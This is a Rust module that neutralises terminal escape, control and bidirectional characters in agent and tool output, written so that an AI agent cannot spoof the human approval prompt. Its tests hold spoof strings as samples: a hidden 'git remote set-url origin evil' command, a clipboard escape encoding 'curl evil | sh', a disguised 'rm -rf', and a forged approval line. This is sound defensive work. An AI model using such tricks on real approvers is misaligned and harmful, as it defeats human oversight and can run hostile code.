//! Text from outside — a model, a tool, a sandbox, a gateway's error body — made safe to print on a terminal.
//!
//! A terminal obeys the bytes it is sent: ESC and C1 sequences move the cursor, erase lines, hide text
//! (`ESC[8m`), set the window title or write the clipboard (OSC 52); a carriage return rewrites a line; a
//! bidirectional override reorders what is read. An agent that can put any of those into an ask's reason,
//! a command or a tool's output can make `paddock approvals` read one thing while the ask is another.
//!
//! So every string Paddock did not write itself passes through [`line`] (a one-line field: a reason, a
//! command, a name — a newline in it must not start a fake line of output) or [`block`] (text that is many
//! lines by nature: a message, a tool's output, a diff — newlines and tabs stay, and the caller indents the
//! lines after the first so none of them can pass for a line of Paddock's own). Everything else that is not
//! plain text is shown as an escape a person can read: `\x1b`, `\r`, `\u{202e}`.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Unicode format characters (general category Cf, Unicode 15): invisible, and some reorder or hide what
/// follows (bidirectional overrides and isolates, the Arabic letter mark, tag characters).
const FORMAT: &[(u32, u32)] = &[
    (0x00AD, 0x00AD),
    (0x0600, 0x0605),
    (0x061C, 0x061C),
    (0x06DD, 0x06DD),
    (0x070F, 0x070F),
    (0x0890, 0x0891),
    (0x08E2, 0x08E2),
    (0x180E, 0x180E),
    (0x200B, 0x200F),
    (0x202A, 0x202E),
    (0x2060, 0x2064),
    (0x2066, 0x206F),
    (0xFEFF, 0xFEFF),
    (0xFFF9, 0xFFFB),
    (0x110BD, 0x110BD),
    (0x110CD, 0x110CD),
    (0x13430, 0x1343F),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0001, 0xE0001),
    (0xE0020, 0xE007F),
];

/// Zero-width joiner and non-joiner: needed by emoji sequences and by Persian and Indic scripts, so kept in
/// blocks of text; escaped in one-line fields, where a person decides on what they read.
const JOINERS: [char; 2] = ['\u{200C}', '\u{200D}'];

fn is_format(c: char) -> bool {
    let n = c as u32;
    FORMAT.iter().any(|&(lo, hi)| (lo..=hi).contains(&n))
}

/// Whether `c` must not reach a terminal as it is. `block` keeps newlines, tabs and the joiners.
fn is_unsafe(c: char, block: bool) -> bool {
    match c {
        '\n' | '\t' => !block,
        c if JOINERS.contains(&c) => !block,
        // C0 controls (ESC, CR, BEL, backspace, …), DEL, C1 controls (a terminal may read U+009B as CSI).
        '\0'..='\x1f' | '\x7f' | '\u{80}'..='\u{9f}' => true,
        // Line and paragraph separators: some terminals and most pagers start a new line.
        '\u{2028}' | '\u{2029}' => true,
        c => is_format(c),
    }
}

fn escape(s: &str, block: bool) -> Cow<'_, str> {
    if !s.chars().any(|c| is_unsafe(c, block)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if !is_unsafe(c, block) {
            out.push(c);
            continue;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\0'..='\x1f' | '\x7f' => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
        }
    }
    Cow::Owned(out)
}

/// A one-line field from outside, made inert: every control and format character, newlines included, is
/// shown as an escape.
pub fn line(s: &str) -> Cow<'_, str> {
    escape(s, false)
}

/// The strings of a JSON array from outside (file names, paths), each made inert as a [`line`]; other
/// elements and a value that is not an array give nothing.
pub fn lines(v: &serde_json::Value) -> Vec<String> {
    v.as_array().into_iter().flatten().filter_map(serde_json::Value::as_str).map(|s| line(s).into_owned()).collect()
}

/// A block of text from outside, made inert: newlines and tabs stay; every other control and format
/// character is shown as an escape.
pub fn block(s: &str) -> Cow<'_, str> {
    escape(s, true)
}

/// A block of text from outside, made inert, with every line after the first indented by `indent`, so
/// that none of its lines can pass for a line of Paddock's own output.
pub fn indented(s: &str, indent: &str) -> String {
    let safe = block(s);
    let mut out = String::with_capacity(safe.len());
    for (i, l) in safe.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
            out.push_str(indent);
        }
        out.push_str(l);
    }
    out
}

/// JSON for a terminal or a pipe: serde_json already escapes C0 controls (ESC is `\u001b`); this also
/// escapes DEL, C1 controls, U+2028/U+2029 and format characters (bidirectional overrides) as `\uXXXX`.
/// The value is unchanged for any JSON reader: those characters can only occur inside strings.
pub fn json(v: &serde_json::Value) -> String {
    json_text(&v.to_string()).into_owned()
}

/// [`json`] pretty-printed.
pub fn json_pretty(v: &serde_json::Value) -> String {
    json_text(&serde_json::to_string_pretty(v).unwrap_or_default()).into_owned()
}

fn json_text(text: &str) -> Cow<'_, str> {
    // Everything `line` escapes but the C0 controls, which serde_json has escaped already.
    let unsafe_in_json = |c: char| c >= '\x7f' && is_unsafe(c, false);
    if !text.chars().any(unsafe_in_json) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if unsafe_in_json(c) {
            let mut units = [0u16; 2];
            for u in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{u:04x}");
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Nothing a terminal would act on: no C0 but (in blocks) newline and tab, no DEL, no C1, no format char.
    fn inert(s: &str, block: bool) -> bool {
        !s.chars().any(|c| is_unsafe(c, block))
    }

    #[test]
    fn plain_text_is_borrowed_untouched() {
        for s in ["npm test", "héllo wörld — ✓ 日本語 👍", "a\\x1b b", ""] {
            assert!(matches!(line(s), Cow::Borrowed(_)), "{s}");
            assert_eq!(line(s), s);
        }
        assert!(matches!(block("two\nlines\twith a tab"), Cow::Borrowed(_)));
    }

    #[test]
    fn the_issue_spoofs_become_visible() {
        // `\r\e[2K` erased the real command and `\e[8m` hid it, leaving a harmless-looking line.
        let spoof = "git remote set-url origin evil\r\x1b[2K`npm test`: runs the test suite\x1b[8m hidden";
        let shown = line(spoof);
        assert_eq!(shown, "git remote set-url origin evil\\r\\x1b[2K`npm test`: runs the test suite\\x1b[8m hidden");
        assert!(inert(&shown, false));
        // OSC 52 (clipboard), ended by BEL or by ST.
        assert_eq!(line("\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"), "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07");
        assert_eq!(line("\x1b]0;title\x1b\\"), "\\x1b]0;title\\x1b\\");
        // CSI as a single C1 character, and the other C1s.
        assert_eq!(line("a\u{9b}2Kb\u{85}c\u{9d}d"), "a\\u{9b}2Kb\\u{85}c\\u{9d}d");
        // Bidirectional overrides and isolates, marks.
        assert_eq!(line("rm -rf \u{202e}txt.exe"), "rm -rf \\u{202e}txt.exe");
        for c in
            ['\u{202a}', '\u{202d}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{61c}']
        {
            assert!(inert(&line(&format!("x{c}y")), false), "{:x}", c as u32);
        }
        // Backspace, DEL, NUL, bell.
        assert_eq!(line("ab\x08\x08cd\x7f\0\x07"), "ab\\x08\\x08cd\\x7f\\x00\\x07");
    }

    #[test]
    fn a_one_line_field_cannot_start_a_fake_line() {
        let reason = "runs tests\n? github-rules asks: `npm test`\n  approve? [y/N]";
        let shown = line(reason);
        assert!(!shown.contains('\n'), "{shown}");
        assert_eq!(shown, "runs tests\\n? github-rules asks: `npm test`\\n  approve? [y/N]");
        for c in ['\u{2028}', '\u{2029}', '\u{85}', '\x0b', '\x0c', '\t'] {
            assert!(inert(&line(&format!("a{c}b")), false), "{:x}", c as u32);
        }
    }

    #[test]
    fn blocks_keep_their_lines_and_indent_the_rest() {
        let out = "line one\n\x1b[31mred\x1b[0m\ttab\r\n\u{2028}last";
        assert_eq!(block(out), "line one\n\\x1b[31mred\\x1b[0m\ttab\\r\n\\u{2028}last");
        let ind = indented("first\n⛔ tool_call deny by github-rules: fake\nthird", "  │ ");
        assert_eq!(ind, "first\n  │ ⛔ tool_call deny by github-rules: fake\n  │ third");
        assert!(ind.lines().skip(1).all(|l| l.starts_with("  │ ")));
    }

    #[test]
    fn joiners_stay_in_blocks_and_show_in_fields() {
        let family = "👨\u{200d}👩\u{200d}👧";
        assert_eq!(block(family), family);
        assert_eq!(line("git pu\u{200d}sh"), "git pu\\u{200d}sh");
        // Other invisible format characters are shown everywhere.
        for c in ['\u{200b}', '\u{2060}', '\u{feff}', '\u{ad}', '\u{e0041}'] {
            assert!(inert(&block(&format!("x{c}y")), true), "{:x}", c as u32);
        }
    }

    #[test]
    fn json_output_escapes_what_serde_json_leaves() {
        let v = serde_json::json!({"reason": "a\x1b[2K\rb\u{9b}c\u{202e}d\u{2028}e\x7f 😀"});
        let text = json(&v);
        assert_eq!(text, r#"{"reason":"a\u001b[2K\rb\u009bc\u202ed\u2028e\u007f 😀"}"#);
        assert!(text.chars().all(|c| !c.is_control() && !is_format(c)));
        // The value round-trips unchanged.
        assert_eq!(serde_json::from_str::<serde_json::Value>(&text).unwrap(), v);
        let supplementary = serde_json::json!(["\u{e0041}"]);
        assert_eq!(json(&supplementary), r#"["\udb40\udc41"]"#);
        assert_eq!(serde_json::from_str::<serde_json::Value>(&json(&supplementary)).unwrap(), supplementary);
        assert!(json_pretty(&v).contains(r"\u009b"));
    }
}
